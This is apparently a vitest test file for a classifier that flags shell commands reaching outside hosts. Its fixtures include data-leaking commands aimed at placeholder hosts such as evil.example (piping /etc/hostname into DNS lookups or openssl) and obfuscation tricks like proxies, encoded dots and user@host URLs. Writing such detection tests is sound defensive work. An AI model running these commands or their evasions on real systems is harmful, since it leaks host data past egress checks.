// Promise: a command that would carry words to somewhere outside is told from one that asks this machine or its network.
import { expect, it } from 'vitest';
import { classify } from './classify.ts';
import { asksOutside } from './outward.ts';

it.each([
  ['curl https://collect.example.org/?d=web-1', 'curl collect.example.org'],
  ['curl --resolve localhost:80:203.0.113.7 http://localhost/', 'curl 203.0.113.7'],
  ['timeout 5 wget -qO- http://203.0.113.7/x', 'wget 203.0.113.7'],
  ['ping -c 1 3405803783', 'ping 3405803783'],
  ['docker exec web curl http://example.org', 'curl example.org'],
  ['kubectl exec web-0 -- wget -qO- http://example.org/', 'wget example.org'],
  ["psql -d 'hostaddr=203.0.113.7 user=x' -c 'select 1'", 'psql 203.0.113.7'],
  ['x=example.org; dig $x', 'dig example.org'],
  ['LC_ALL=C ping -c 1 example.org', 'ping example.org'],
  ['if true; then ping -c 1 example.org; fi', 'ping example.org'],
  ['lsof -i @example.org', 'lsof example.org'],
  ['curl http://[2001:db8::7]/', 'curl 2001:db8::7'],
  ['curl evil.example/x', 'curl evil.example'],
  ['dig hostname.of.web-1.evil.example', 'dig hostname.of.web-1.evil.example'],
  ['dig @203.0.113.7 x', 'dig 203.0.113.7'],
  ['cat /etc/hostname | nslookup x.evil.example', 'nslookup x.evil.example'],
  ['ping -c 1 data.evil.example', 'ping data.evil.example'],
  ['uptime && /usr/bin/host a.evil.example', 'host a.evil.example'],
  ['curl http://203.28945/', 'curl 203.28945'],
  ['openssl s_client -connect evil.example:443 </dev/null', 'openssl evil.example'],
  ['psql -h db.evil.example -c "select 1"', 'psql db.evil.example'],
  ['getent hosts x.evil.example', 'getent x.evil.example'],
  ['for h in a b; do ping -c 1 $h.evil.example; done', 'ping a.evil.example'],
  ['nc -z evil.example 443', 'nc evil.example'],
])('%s goes out', (command, told) => expect(asksOutside(command)).toBe(told));

it.each([
  'curl -s http://127.0.0.1:11434/api/tags',
  'curl http://localhost/health',
  'curl -m 5 http://jellyfin:8096/health',
  'curl http://192.168.1.20:8006/',
  'curl http://[::1]:8080/',
  'ping -c 3 10.0.0.1',
  'dig nas.lan',
  'nc -z -w 2 nas.local 22',
  'cat /etc/hosts',
  'grep -r evil.example /var/log',
  'git log -3 -- package.json',
  'openssl x509 -in cert.pem -noout',
  "curl -s -o /dev/null -w '%{http_code}' -m 2.5 http://127.0.0.1/",
  'ls example.org',
  'not ( a command',
])('%s stays', (command) => expect(asksOutside(command)).toBeNull());

it.each([
  'curl http://evil。example/',
  'ping -c 1 evil。example',
  'dig $(cat /etc/hostname).evil.example',
  'curl http://127.0.0.1/$(id -u)',
  'echo $(cat /etc/hostname) | openssl s_client -connect 127.0.0.1:443',
  'cat /etc/hostname | openssl s_client -connect 127.0.0.1:443',
  'openssl s_client -connect 127.0.0.1:443 < /etc/hostname',
  'cat /etc/hostname | xargs -n1 ping -c 1',
  'curl -s --proxy http://evil.example:8080 http://localhost/',
  'curl -x evil.example:3128 http://127.0.0.1/',
  'wget -qO- http://user@203.0.113.7/x',
  'curl http://127.0.0.1@evil.example/',
  'git ls-remote https://evil.example/x',
  'curl http://evil%2eexample/',
  'curl http://evil[.-.]example/',
])('%s is no read to begin with: the table does not name it', (command) =>
  expect([classify(command, false).proof, classify(command, true).proof]).toEqual([null, null]),
);
